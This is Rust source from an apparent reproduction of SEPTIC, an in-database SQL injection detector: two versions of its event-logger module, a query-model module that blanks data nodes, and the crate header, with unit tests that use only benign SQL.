//! attack detection (with the algorithm step), and mode changes.

use std::collections::VecDeque;
use std::fmt;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};

use parking_lot::Mutex;
use serde::{Deserialize, Serialize};

use crate::detector::SqliKind;
use crate::id::QueryId;
use crate::mode::Mode;
use crate::plugins::StoredAttack;

/// The action SEPTIC took for a flagged query.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum AttackAction {
    /// Prevention mode: query dropped.
    Dropped,
    /// Detection mode: logged only, query executed.
    LoggedOnly,
}

impl fmt::Display for AttackAction {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AttackAction::Dropped => f.write_str("dropped"),
            AttackAction::LoggedOnly => f.write_str("logged-only"),
        }
    }
}

/// One event in SEPTIC's register.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum EventKind {
    /// A query passed through SEPTIC.
    QueryProcessed { id: QueryId, command: String },
    /// A model was created and stored (training or incremental learning).
    ModelCreated { id: QueryId, incremental: bool },
    /// An already-known query arrived; no model was created.
    ModelFound { id: QueryId },
    /// A SQLI attack was flagged.
    SqliDetected {
        id: QueryId,
        kind: SqliKind,
        action: AttackAction,
        query: String,
    },
    /// A stored-injection attack was flagged by a plugin.
    StoredDetected {
        id: QueryId,
        attack: StoredAttack,
        action: AttackAction,
        query: String,
    },
    /// A query whose identifier the administrator rejected arrived again
    /// and was refused.
    RejectedQueryRefused { id: QueryId, query: String },
    /// The operation mode changed.
    ModeChanged { from: Mode, to: Mode },
    /// Persistent models were loaded at startup.
    StoreLoaded { count: usize },
    /// A detector or plugin failed (panicked) while inspecting a query;
    /// the configured failure policy decided the query's fate.
    DetectorFailed {
        id: QueryId,
        what: String,
        fail_open: bool,
    },
    /// Detection ran past the configured deadline budget.
    DeadlineExceeded {
        id: QueryId,
        elapsed_us: u64,
        budget_us: u64,
        fail_open: bool,
    },
}

/// A sequenced event.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Event {
    /// Monotone sequence number.
    pub seq: u64,
    pub kind: EventKind,
}

impl fmt::Display for Event {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "[{:06}] ", self.seq)?;
        match &self.kind {
            EventKind::QueryProcessed { id, command } => {
                write!(f, "query processed id={id} cmd={command}")
            }
            EventKind::ModelCreated { id, incremental } => write!(
                f,
                "query model created id={id}{}",
                if *incremental { " (incremental)" } else { "" }
            ),
            EventKind::ModelFound { id } => write!(f, "query model found id={id}"),
            EventKind::SqliDetected {
                id,
                kind,
                action,
                query,
            } => {
                write!(
                    f,
                    "SQLI attack id={id} {kind} action={action} query={query}"
                )
            }
            EventKind::StoredDetected {
                id,
                attack,
                action,
                query,
            } => {
                write!(
                    f,
                    "stored injection id={id} {attack} action={action} query={query}"
                )
            }
            EventKind::RejectedQueryRefused { id, query } => {
                write!(
                    f,
                    "administrator-rejected query refused id={id} query={query}"
                )
            }
            EventKind::ModeChanged { from, to } => write!(f, "mode changed {from} -> {to}"),
            EventKind::StoreLoaded { count } => write!(f, "loaded {count} persisted models"),
            EventKind::DetectorFailed {
                id,
                what,
                fail_open,
            } => write!(
                f,
                "detector failure id={id} ({what}) policy={}",
                if *fail_open {
                    "fail-open"
                } else {
                    "fail-closed"
                }
            ),
            EventKind::DeadlineExceeded {
                id,
                elapsed_us,
                budget_us,
                fail_open,
            } => {
                write!(
                f,
                "detection deadline exceeded id={id} ({elapsed_us}us > {budget_us}us) policy={}",
                if *fail_open { "fail-open" } else { "fail-closed" }
            )
            }
        }
    }
}

/// Bounded in-memory event register: a ring buffer that evicts the oldest
/// event when full, counting what it dropped so degradation is visible
/// instead of silent.
#[derive(Debug)]
pub struct Logger {
    events: Mutex<VecDeque<Event>>,
    seq: AtomicU64,
    dropped: AtomicU64,
    capacity: usize,
    /// When false, [`Logger::record`] is a no-op. Callers on the query
    /// hot path should check [`Logger::is_enabled`] *before* building an
    /// event so the payload allocations are skipped entirely.
    enabled: AtomicBool,
}

impl Default for Logger {
    fn default() -> Self {
        Logger::new(16_384)
    }
}

impl Logger {
    /// Creates a logger retaining at most `capacity` events.
    #[must_use]
    pub fn new(capacity: usize) -> Self {
        Logger {
            events: Mutex::new(VecDeque::new()),
            seq: AtomicU64::new(1),
            dropped: AtomicU64::new(0),
            capacity: capacity.max(16),
            enabled: AtomicBool::new(true),
        }
    }

    /// True when events are being recorded.
    #[must_use]
    pub fn is_enabled(&self) -> bool {
        self.enabled.load(Ordering::Relaxed)
    }

    /// Turns event recording on or off. While off, [`Logger::record`]
    /// returns 0 without touching the register or the sequence counter.
    pub fn set_enabled(&self, on: bool) {
        self.enabled.store(on, Ordering::Relaxed);
    }

    /// Appends an event and returns its sequence number (0 when the
    /// logger is disabled).
    pub fn record(&self, kind: EventKind) -> u64 {
        if !self.is_enabled() {
            return 0;
        }
        let seq = self.seq.fetch_add(1, Ordering::Relaxed);
        let mut events = self.events.lock();
        while events.len() >= self.capacity {
            events.pop_front();
            self.dropped.fetch_add(1, Ordering::Relaxed);
        }
        events.push_back(Event { seq, kind });
        seq
    }

    /// Events evicted from the bounded register since creation.
    #[must_use]
    pub fn dropped(&self) -> u64 {
        self.dropped.load(Ordering::Relaxed)
    }

    /// Snapshot of the retained events.
    #[must_use]
    pub fn events(&self) -> Vec<Event> {
        self.events.lock().iter().cloned().collect()
    }

    /// Events matching a predicate.
    #[must_use]
    pub fn events_where(&self, pred: impl Fn(&EventKind) -> bool) -> Vec<Event> {
        self.events
            .lock()
            .iter()
            .filter(|e| pred(&e.kind))
            .cloned()
            .collect()
    }

    /// Count of attack events (SQLI + stored).
    #[must_use]
    pub fn attack_count(&self) -> usize {
        self.events
            .lock()
            .iter()
            .filter(|e| {
                matches!(
                    e.kind,
                    EventKind::SqliDetected { .. } | EventKind::StoredDetected { .. }
                )
            })
            .count()
    }

    /// Clears the register.
    pub fn clear(&self) {
        self.events.lock().clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn qid() -> QueryId {
        QueryId {
            external: None,
            internal: 7,
        }
    }

    #[test]
    fn records_in_sequence() {
        let log = Logger::default();
        let a = log.record(EventKind::ModelFound { id: qid() });
        let b = log.record(EventKind::StoreLoaded { count: 3 });
        assert!(b > a);
        assert_eq!(log.events().len(), 2);
    }

    #[test]
    fn attack_count_counts_both_kinds() {
        let log = Logger::default();
        log.record(EventKind::SqliDetected {
            id: qid(),
            kind: SqliKind::Structural {
                expected: 9,
                observed: 5,
            },
            action: AttackAction::Dropped,
            query: "q".into(),
        });
        log.record(EventKind::ModelFound { id: qid() });
        log.record(EventKind::StoredDetected {
            id: qid(),
            attack: StoredAttack::new("stored XSS", "script tag"),
            action: AttackAction::LoggedOnly,
            query: "q".into(),
        });
        assert_eq!(log.attack_count(), 2);
    }

    #[test]
    fn capacity_is_bounded() {
        let log = Logger::new(16);
        for _ in 0..100 {
            log.record(EventKind::StoreLoaded { count: 0 });
        }
        // A ring buffer: exactly the newest `capacity` events survive and
        // evictions are counted, not silent.
        assert_eq!(log.events().len(), 16);
        assert_eq!(log.dropped(), 84);
        // Sequence numbers keep increasing even after eviction.
        assert!(log.events().last().unwrap().seq == 100);
        assert_eq!(log.events().first().unwrap().seq, 85);
    }

    #[test]
    fn display_mentions_the_step() {
        let e = Event {
            seq: 1,
            kind: EventKind::SqliDetected {
                id: qid(),
                kind: SqliKind::Structural {
                    expected: 2,
                    observed: 1,
                },
                action: AttackAction::Dropped,
                query: "SELECT 1".into(),
            },
        };
        let s = e.to_string();
        assert!(s.contains("step 1") && s.contains("dropped"));
    }

    #[test]
    fn disabled_logger_records_nothing() {
        let log = Logger::default();
        log.set_enabled(false);
        assert!(!log.is_enabled());
        assert_eq!(log.record(EventKind::StoreLoaded { count: 1 }), 0);
        assert!(log.events().is_empty());
        log.set_enabled(true);
        assert_eq!(log.record(EventKind::StoreLoaded { count: 1 }), 1);
    }

    #[test]
    fn filter_helper() {
        let log = Logger::default();
        log.record(EventKind::StoreLoaded { count: 1 });
        log.record(EventKind::ModelFound { id: qid() });
        let found = log.events_where(|k| matches!(k, EventKind::ModelFound { .. }));
        assert_eq!(found.len(), 1);
    }
}
