//! The **logger** module: SEPTIC's register of events.
//!
//! Records everything the demo's "SEPTIC events" display shows: query
//! structure construction, identifier generation, model discovery/creation,
//! attack detection (with the algorithm step), and mode changes.

use std::collections::VecDeque;
use std::fmt;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};

use parking_lot::Mutex;
use serde::{Deserialize, Serialize};

use crate::detector::SqliKind;
use crate::id::QueryId;
use crate::mode::Mode;
use crate::plugins::StoredAttack;

/// The action SEPTIC took for a flagged query.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum AttackAction {
    /// Prevention mode: query dropped.
    Dropped,
    /// Detection mode: logged only, query executed.
    LoggedOnly,
}

impl fmt::Display for AttackAction {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AttackAction::Dropped => f.write_str("dropped"),
            AttackAction::LoggedOnly => f.write_str("logged-only"),
        }
    }
}

/// Per-stage time spent inside [`Septic::inspect`] for one query, in
/// microseconds. Attached to [`EventKind::DeadlineExceeded`] so a blown
/// detection budget is attributable to the stage that consumed it.
///
/// [`Septic::inspect`]: crate::Septic::inspect
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct StageSpansUs {
    /// Query identifier generation.
    pub id_gen_us: u64,
    /// Model store lookup (including the rejected-id check).
    pub store_get_us: u64,
    /// Structural + syntactic SQLI comparison.
    pub sqli_us: u64,
    /// Stored-injection plugin scan.
    pub stored_us: u64,
}

impl StageSpansUs {
    /// Name of the stage that consumed the most time.
    #[must_use]
    pub fn slowest(&self) -> &'static str {
        let stages = [
            ("id_gen", self.id_gen_us),
            ("store_get", self.store_get_us),
            ("sqli_detect", self.sqli_us),
            ("stored_scan", self.stored_us),
        ];
        stages
            .iter()
            .max_by_key(|(_, us)| *us)
            .map(|(name, _)| *name)
            .unwrap_or("id_gen")
    }
}

impl fmt::Display for StageSpansUs {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "id_gen={}us store_get={}us sqli={}us stored={}us",
            self.id_gen_us, self.store_get_us, self.sqli_us, self.stored_us
        )
    }
}

/// One event in SEPTIC's register.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum EventKind {
    /// A query passed through SEPTIC.
    QueryProcessed { id: QueryId, command: String },
    /// A model was created and stored (training or incremental learning).
    ModelCreated { id: QueryId, incremental: bool },
    /// An already-known query arrived; no model was created.
    ModelFound { id: QueryId },
    /// A SQLI attack was flagged.
    SqliDetected {
        id: QueryId,
        kind: SqliKind,
        action: AttackAction,
        query: String,
    },
    /// A stored-injection attack was flagged by a plugin.
    StoredDetected {
        id: QueryId,
        attack: StoredAttack,
        action: AttackAction,
        query: String,
    },
    /// A query whose identifier the administrator rejected arrived again
    /// and was refused.
    RejectedQueryRefused { id: QueryId, query: String },
    /// The operation mode changed.
    ModeChanged { from: Mode, to: Mode },
    /// Persistent models were loaded at startup.
    StoreLoaded { count: usize },
    /// A detector or plugin failed (panicked) while inspecting a query;
    /// the configured failure policy decided the query's fate.
    DetectorFailed {
        id: QueryId,
        what: String,
        fail_open: bool,
    },
    /// Detection ran past the configured deadline budget.
    DeadlineExceeded {
        id: QueryId,
        elapsed_us: u64,
        budget_us: u64,
        fail_open: bool,
        /// Where the time went, so the blown budget is attributable.
        stages: StageSpansUs,
    },
    /// A value recovered from durable storage was flagged by a
    /// stored-injection plugin during the post-restart re-scan: the
    /// payload predates the current deployment.
    RecoveredDataFlagged { attack: StoredAttack, value: String },
}

/// Number of [`EventKind`] variants (the width of the per-kind counter
/// array in [`Logger`]).
const KIND_SLOTS: usize = 11;

impl EventKind {
    /// Dense per-variant index used for the monotonic counters.
    fn slot(&self) -> usize {
        match self {
            EventKind::QueryProcessed { .. } => 0,
            EventKind::ModelCreated { .. } => 1,
            EventKind::ModelFound { .. } => 2,
            EventKind::SqliDetected { .. } => 3,
            EventKind::StoredDetected { .. } => 4,
            EventKind::RejectedQueryRefused { .. } => 5,
            EventKind::ModeChanged { .. } => 6,
            EventKind::StoreLoaded { .. } => 7,
            EventKind::DetectorFailed { .. } => 8,
            EventKind::DeadlineExceeded { .. } => 9,
            EventKind::RecoveredDataFlagged { .. } => 10,
        }
    }
}

/// Exact monotonic per-kind totals, counted at [`Logger::record`] time —
/// unaffected by ring-buffer eviction.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct EventKindCounts {
    pub query_processed: u64,
    pub model_created: u64,
    pub model_found: u64,
    pub sqli_detected: u64,
    pub stored_detected: u64,
    pub rejected_refused: u64,
    pub mode_changed: u64,
    pub store_loaded: u64,
    pub detector_failed: u64,
    pub deadline_exceeded: u64,
    pub recovered_flagged: u64,
}

/// A sequenced event.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Event {
    /// Monotone sequence number.
    pub seq: u64,
    pub kind: EventKind,
}

impl fmt::Display for Event {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "[{:06}] ", self.seq)?;
        match &self.kind {
            EventKind::QueryProcessed { id, command } => {
                write!(f, "query processed id={id} cmd={command}")
            }
            EventKind::ModelCreated { id, incremental } => write!(
                f,
                "query model created id={id}{}",
                if *incremental { " (incremental)" } else { "" }
            ),
            EventKind::ModelFound { id } => write!(f, "query model found id={id}"),
            EventKind::SqliDetected {
                id,
                kind,
                action,
                query,
            } => {
                write!(
                    f,
                    "SQLI attack id={id} {kind} action={action} query={query}"
                )
            }
            EventKind::StoredDetected {
                id,
                attack,
                action,
                query,
            } => {
                write!(
                    f,
                    "stored injection id={id} {attack} action={action} query={query}"
                )
            }
            EventKind::RejectedQueryRefused { id, query } => {
                write!(
                    f,
                    "administrator-rejected query refused id={id} query={query}"
                )
            }
            EventKind::ModeChanged { from, to } => write!(f, "mode changed {from} -> {to}"),
            EventKind::StoreLoaded { count } => write!(f, "loaded {count} persisted models"),
            EventKind::DetectorFailed {
                id,
                what,
                fail_open,
            } => write!(
                f,
                "detector failure id={id} ({what}) policy={}",
                if *fail_open {
                    "fail-open"
                } else {
                    "fail-closed"
                }
            ),
            EventKind::DeadlineExceeded {
                id,
                elapsed_us,
                budget_us,
                fail_open,
                stages,
            } => {
                write!(
                    f,
                    "detection deadline exceeded id={id} ({elapsed_us}us > {budget_us}us) \
                     policy={} slowest={} [{stages}]",
                    if *fail_open {
                        "fail-open"
                    } else {
                        "fail-closed"
                    },
                    stages.slowest()
                )
            }
            EventKind::RecoveredDataFlagged { attack, value } => {
                write!(f, "recovered data flagged {attack} value={value}")
            }
        }
    }
}

/// Bounded in-memory event register: a ring buffer that evicts the oldest
/// event when full, counting what it dropped so degradation is visible
/// instead of silent.
///
/// The ring holds event *details* only. Totals that operators rely on
/// (attack counts, per-kind tallies) are kept in monotonic counters
/// bumped at [`Logger::record`] time, so they stay exact no matter how
/// many events the ring has evicted.
#[derive(Debug)]
pub struct Logger {
    events: Mutex<VecDeque<Event>>,
    seq: AtomicU64,
    dropped: AtomicU64,
    capacity: usize,
    /// Monotonic per-[`EventKind`] totals, indexed by `EventKind::slot`.
    recorded: [AtomicU64; KIND_SLOTS],
    /// When false, [`Logger::record`] is a no-op. Callers on the query
    /// hot path should check [`Logger::is_enabled`] *before* building an
    /// event so the payload allocations are skipped entirely.
    enabled: AtomicBool,
}

impl Default for Logger {
    fn default() -> Self {
        Logger::new(16_384)
    }
}

impl Logger {
    /// Creates a logger retaining at most `capacity` events.
    #[must_use]
    pub fn new(capacity: usize) -> Self {
        Logger {
            events: Mutex::new(VecDeque::new()),
            seq: AtomicU64::new(1),
            dropped: AtomicU64::new(0),
            capacity: capacity.max(16),
            recorded: std::array::from_fn(|_| AtomicU64::new(0)),
            enabled: AtomicBool::new(true),
        }
    }

    /// True when events are being recorded.
    #[must_use]
    pub fn is_enabled(&self) -> bool {
        self.enabled.load(Ordering::Relaxed)
    }

    /// Turns event recording on or off. While off, [`Logger::record`]
    /// returns 0 without touching the register or the sequence counter.
    pub fn set_enabled(&self, on: bool) {
        self.enabled.store(on, Ordering::Relaxed);
    }

    /// Appends an event and returns its sequence number (0 when the
    /// logger is disabled).
    pub fn record(&self, kind: EventKind) -> u64 {
        if !self.is_enabled() {
            return 0;
        }
        let mut events = self.events.lock();
        // Sequence and per-kind totals advance under the ring lock so
        // `clear` can't interleave with them. The per-kind totals are
        // bumped before the ring may evict the event: totals derived
        // from `recorded` are exact even after the ring wraps.
        let seq = self.seq.fetch_add(1, Ordering::Relaxed);
        self.recorded[kind.slot()].fetch_add(1, Ordering::Relaxed);
        while events.len() >= self.capacity {
            events.pop_front();
            self.dropped.fetch_add(1, Ordering::Relaxed);
        }
        events.push_back(Event { seq, kind });
        seq
    }

    /// Events evicted from the bounded register since creation.
    #[must_use]
    pub fn dropped(&self) -> u64 {
        self.dropped.load(Ordering::Relaxed)
    }

    /// Snapshot of the retained events.
    #[must_use]
    pub fn events(&self) -> Vec<Event> {
        self.events.lock().iter().cloned().collect()
    }

    /// Events matching a predicate.
    #[must_use]
    pub fn events_where(&self, pred: impl Fn(&EventKind) -> bool) -> Vec<Event> {
        self.events
            .lock()
            .iter()
            .filter(|e| pred(&e.kind))
            .cloned()
            .collect()
    }

    /// Exact count of attack events (SQLI + stored) ever recorded.
    ///
    /// Counted monotonically at [`Logger::record`] time, **not** by
    /// scanning the bounded ring — the total stays correct after the
    /// ring wraps and starts evicting old attack events.
    #[must_use]
    pub fn attack_count(&self) -> usize {
        let counts = self.kind_counts();
        (counts.sqli_detected + counts.stored_detected) as usize
    }

    /// Exact per-kind totals ever recorded (eviction-proof).
    #[must_use]
    pub fn kind_counts(&self) -> EventKindCounts {
        let load = |slot: usize| self.recorded[slot].load(Ordering::Relaxed);
        EventKindCounts {
            query_processed: load(0),
            model_created: load(1),
            model_found: load(2),
            sqli_detected: load(3),
            stored_detected: load(4),
            rejected_refused: load(5),
            mode_changed: load(6),
            store_loaded: load(7),
            detector_failed: load(8),
            deadline_exceeded: load(9),
            recovered_flagged: load(10),
        }
    }

    /// Total events ever recorded (eviction-proof).
    #[must_use]
    pub fn total_recorded(&self) -> u64 {
        self.recorded
            .iter()
            .map(|c| c.load(Ordering::Relaxed))
            .sum()
    }

    /// Resets the register to its freshly-constructed state: empties
    /// the ring **and** zeroes the drop counter, the per-kind totals
    /// and the sequence counter. A post-clear snapshot therefore never
    /// reports phantom drops or stale attack totals.
    pub fn clear(&self) {
        let mut events = self.events.lock();
        events.clear();
        // Reset under the ring lock so a concurrent `record` can't
        // interleave between the ring clear and the counter resets.
        self.dropped.store(0, Ordering::Relaxed);
        self.seq.store(1, Ordering::Relaxed);
        for c in &self.recorded {
            c.store(0, Ordering::Relaxed);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn qid() -> QueryId {
        QueryId {
            external: None,
            internal: 7,
        }
    }

    #[test]
    fn records_in_sequence() {
        let log = Logger::default();
        let a = log.record(EventKind::ModelFound { id: qid() });
        let b = log.record(EventKind::StoreLoaded { count: 3 });
        assert!(b > a);
        assert_eq!(log.events().len(), 2);
    }

    #[test]
    fn attack_count_counts_both_kinds() {
        let log = Logger::default();
        log.record(EventKind::SqliDetected {
            id: qid(),
            kind: SqliKind::Structural {
                expected: 9,
                observed: 5,
            },
            action: AttackAction::Dropped,
            query: "q".into(),
        });
        log.record(EventKind::ModelFound { id: qid() });
        log.record(EventKind::StoredDetected {
            id: qid(),
            attack: StoredAttack::new("stored XSS", "script tag"),
            action: AttackAction::LoggedOnly,
            query: "q".into(),
        });
        assert_eq!(log.attack_count(), 2);
    }

    #[test]
    fn capacity_is_bounded() {
        let log = Logger::new(16);
        for _ in 0..100 {
            log.record(EventKind::StoreLoaded { count: 0 });
        }
        // A ring buffer: exactly the newest `capacity` events survive and
        // evictions are counted, not silent.
        assert_eq!(log.events().len(), 16);
        assert_eq!(log.dropped(), 84);
        // Sequence numbers keep increasing even after eviction.
        assert!(log.events().last().unwrap().seq == 100);
        assert_eq!(log.events().first().unwrap().seq, 85);
    }

    #[test]
    fn attack_count_is_exact_after_ring_wrap() {
        // Regression: attack_count used to scan the bounded ring, so
        // once `capacity + k` attacks had been recorded the oldest k
        // were evicted and the total silently undercounted.
        let capacity = 16;
        let k = 23;
        let log = Logger::new(capacity);
        for _ in 0..capacity + k {
            log.record(EventKind::SqliDetected {
                id: qid(),
                kind: SqliKind::Structural {
                    expected: 9,
                    observed: 5,
                },
                action: AttackAction::Dropped,
                query: "q".into(),
            });
        }
        assert_eq!(log.events().len(), capacity, "ring stays bounded");
        assert_eq!(log.dropped(), k as u64, "evictions counted");
        assert_eq!(log.attack_count(), capacity + k, "total stays exact");
        assert_eq!(log.kind_counts().sqli_detected, (capacity + k) as u64);
        assert_eq!(log.total_recorded(), (capacity + k) as u64);
    }

    #[test]
    fn clear_resets_drops_seq_and_totals() {
        // Regression: clear() emptied the ring but left `dropped` and
        // the sequence counter stale, so post-clear snapshots reported
        // phantom drops from the previous epoch.
        let log = Logger::new(16);
        for _ in 0..40 {
            log.record(EventKind::StoreLoaded { count: 0 });
        }
        assert_eq!(log.dropped(), 24);
        log.clear();
        assert!(log.events().is_empty());
        assert_eq!(log.dropped(), 0, "no phantom drops after clear");
        assert_eq!(log.attack_count(), 0);
        assert_eq!(log.total_recorded(), 0);
        assert_eq!(log.kind_counts(), EventKindCounts::default());
        // Sequencing restarts from a fresh epoch.
        assert_eq!(log.record(EventKind::StoreLoaded { count: 1 }), 1);
    }

    #[test]
    fn deadline_event_carries_stage_spans() {
        let spans = StageSpansUs {
            id_gen_us: 1,
            store_get_us: 2,
            sqli_us: 3,
            stored_us: 900,
        };
        assert_eq!(spans.slowest(), "stored_scan");
        let e = Event {
            seq: 1,
            kind: EventKind::DeadlineExceeded {
                id: qid(),
                elapsed_us: 950,
                budget_us: 100,
                fail_open: true,
                stages: spans,
            },
        };
        let s = e.to_string();
        assert!(s.contains("slowest=stored_scan"), "got: {s}");
        assert!(s.contains("stored=900us"), "got: {s}");
    }

    #[test]
    fn slowest_stage_is_named_even_when_all_spans_are_equal() {
        const STAGES: [&str; 4] = ["id_gen", "store_get", "sqli_detect", "stored_scan"];
        // All-equal spans (including the all-zero case of a query faster
        // than the clock resolution) must still attribute the deadline to
        // *some* stage — the event line never reads `slowest=`.
        for us in [0u64, 7] {
            let spans = StageSpansUs {
                id_gen_us: us,
                store_get_us: us,
                sqli_us: us,
                stored_us: us,
            };
            assert!(
                STAGES.contains(&spans.slowest()),
                "slowest() returned {:?} for equal spans of {us}us",
                spans.slowest()
            );
            let e = Event {
                seq: 1,
                kind: EventKind::DeadlineExceeded {
                    id: qid(),
                    elapsed_us: 10,
                    budget_us: 1,
                    fail_open: false,
                    stages: spans,
                },
            };
            let line = e.to_string();
            assert!(
                STAGES
                    .iter()
                    .any(|st| line.contains(&format!("slowest={st}"))),
                "got: {line}"
            );
        }
    }

    #[test]
    fn saturated_spans_display_without_wrapping() {
        // A span that saturated at u64::MAX (clock edge case) renders as
        // the saturated value; nothing panics or wraps to a small number.
        let spans = StageSpansUs {
            id_gen_us: u64::MAX,
            store_get_us: 0,
            sqli_us: 0,
            stored_us: 0,
        };
        assert_eq!(spans.slowest(), "id_gen");
        assert!(spans
            .to_string()
            .contains(&format!("id_gen={}us", u64::MAX)));
    }

    #[test]
    fn display_mentions_the_step() {
        let e = Event {
            seq: 1,
            kind: EventKind::SqliDetected {
                id: qid(),
                kind: SqliKind::Structural {
                    expected: 2,
                    observed: 1,
                },
                action: AttackAction::Dropped,
                query: "SELECT 1".into(),
            },
        };
        let s = e.to_string();
        assert!(s.contains("step 1") && s.contains("dropped"));
    }

    #[test]
    fn disabled_logger_records_nothing() {
        let log = Logger::default();
        log.set_enabled(false);
        assert!(!log.is_enabled());
        assert_eq!(log.record(EventKind::StoreLoaded { count: 1 }), 0);
        assert!(log.events().is_empty());
        log.set_enabled(true);
        assert_eq!(log.record(EventKind::StoreLoaded { count: 1 }), 1);
    }

    #[test]
    fn filter_helper() {
        let log = Logger::default();
        log.record(EventKind::StoreLoaded { count: 1 });
        log.record(EventKind::ModelFound { id: qid() });
        let found = log.events_where(|k| matches!(k, EventKind::ModelFound { .. }));
        assert_eq!(found.len(), 1);
    }
}
