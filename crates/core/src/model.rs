//! Query structures (QS) and query models (QM).
//!
//! The **query structure** is the item stack of the query being processed;
//! the **query model** is a learned structure whose `⟨DATA_TYPE, DATA⟩`
//! nodes have been blanked to ⊥ (Figure 2(b) of the paper). SEPTIC creates
//! a QM from a QS by replacing every data payload with ⊥ and keeping every
//! element node verbatim.

use std::fmt;

use septic_sql::{Item, ItemData, ItemStack};
use serde::{Deserialize, Serialize};

/// A learned query model: an item stack with blanked data nodes.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct QueryModel {
    items: Vec<Item>,
}

impl QueryModel {
    /// Derives the model from a query structure: data payloads become ⊥,
    /// element nodes are kept (identifier payloads lowercased by the
    /// lowering step already).
    #[must_use]
    pub fn from_structure(qs: &ItemStack) -> Self {
        let items = qs
            .items()
            .iter()
            .map(|item| {
                if item.tag.is_data() {
                    Item {
                        tag: item.tag,
                        data: ItemData::Bot,
                    }
                } else {
                    item.clone()
                }
            })
            .collect();
        QueryModel { items }
    }

    /// Number of nodes.
    #[must_use]
    pub fn len(&self) -> usize {
        self.items.len()
    }

    /// True when the model has no nodes.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.items.is_empty()
    }

    /// Bottom-up node view.
    #[must_use]
    pub fn items(&self) -> &[Item] {
        &self.items
    }

    /// Whether one node of the incoming structure matches one node of the
    /// model: tags must be equal; element payloads must be equal; data
    /// payloads are ignored (they are ⊥ in the model).
    #[must_use]
    pub fn node_matches(model: &Item, qs: &Item) -> bool {
        if model.tag != qs.tag {
            return false;
        }
        if model.tag.is_data() {
            return true;
        }
        match (&model.data, &qs.data) {
            (ItemData::Text(a), ItemData::Text(b)) => a.eq_ignore_ascii_case(b),
            (a, b) => a == b,
        }
    }

    /// Rows from the top of the stack down (figure order).
    pub fn rows_top_down(&self) -> impl Iterator<Item = &Item> {
        self.items.iter().rev()
    }
}

impl fmt::Display for QueryModel {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for item in self.rows_top_down() {
            writeln!(f, "{item}")?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use septic_sql::{items, parse, ItemTag};

    fn qs(sql: &str) -> ItemStack {
        items::lower_all(&parse(sql).expect("parse").statements)
    }

    #[test]
    fn figure2b_model_blanks_data() {
        let stack = qs("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234");
        let model = QueryModel::from_structure(&stack);
        let rows: Vec<_> = model.rows_top_down().collect();
        // Top-down: COND AND, FUNC =, INT ⊥, FIELD creditcard, FUNC =,
        // STRING ⊥, FIELD reservid, SELECT_FIELD *, FROM_TABLE tickets.
        assert_eq!(rows[2].tag, ItemTag::IntItem);
        assert_eq!(rows[2].data, ItemData::Bot);
        assert_eq!(rows[5].tag, ItemTag::StringItem);
        assert_eq!(rows[5].data, ItemData::Bot);
        assert_eq!(rows[3].data, ItemData::Text("creditcard".into()));
    }

    #[test]
    fn model_is_idempotent_across_data() {
        let a = QueryModel::from_structure(&qs("SELECT * FROM t WHERE x = 'aaa' AND y = 1"));
        let b = QueryModel::from_structure(&qs("SELECT * FROM t WHERE x = 'zzz' AND y = 42"));
        assert_eq!(a, b);
    }

    #[test]
    fn every_qs_matches_its_own_model() {
        for sql in [
            "SELECT * FROM t WHERE a = 'x'",
            "INSERT INTO t (a, b) VALUES ('x', 2)",
            "UPDATE t SET a = 'v' WHERE id = 9",
            "DELETE FROM t WHERE id = 3",
            "SELECT a, COUNT(*) FROM t GROUP BY a HAVING COUNT(*) > 1 ORDER BY a LIMIT 5",
        ] {
            let stack = qs(sql);
            let model = QueryModel::from_structure(&stack);
            assert_eq!(model.len(), stack.len());
            for (m, s) in model.items().iter().zip(stack.items()) {
                assert!(QueryModel::node_matches(m, s), "{sql}: {m} vs {s}");
            }
        }
    }

    #[test]
    fn node_match_is_case_insensitive_for_elements() {
        let m = Item::elem(ItemTag::FieldItem, "creditcard");
        let q = Item::elem(ItemTag::FieldItem, "CreditCard");
        assert!(QueryModel::node_matches(&m, &q));
        let q2 = Item::elem(ItemTag::FieldItem, "other");
        assert!(!QueryModel::node_matches(&m, &q2));
    }

    #[test]
    fn data_node_matches_any_payload_of_same_type() {
        let m = Item {
            tag: ItemTag::IntItem,
            data: ItemData::Bot,
        };
        let q = Item {
            tag: ItemTag::IntItem,
            data: ItemData::Int(999),
        };
        assert!(QueryModel::node_matches(&m, &q));
        let wrong_type = Item {
            tag: ItemTag::StringItem,
            data: ItemData::Text("x".into()),
        };
        assert!(!QueryModel::node_matches(&m, &wrong_type));
    }

    #[test]
    fn display_shows_bot() {
        let model =
            QueryModel::from_structure(&qs("SELECT * FROM tickets WHERE reservID = 'ID34FG'"));
        assert!(model.to_string().contains('\u{22A5}'));
    }
}
