//! # septic
//!
//! Reproduction of **SEPTIC** — *SElf-Protecting daTabases preventIng
//! attaCks* (Medeiros, Beatriz, Neves, Correia; CODASPY'16 / DSN'17 demo):
//! a mechanism that detects and blocks injection attacks **inside the
//! DBMS**, immediately before query execution, after the server has parsed
//! and validated the query — thereby closing the *semantic mismatch*
//! between what applications believe they send and what the database
//! executes.
//!
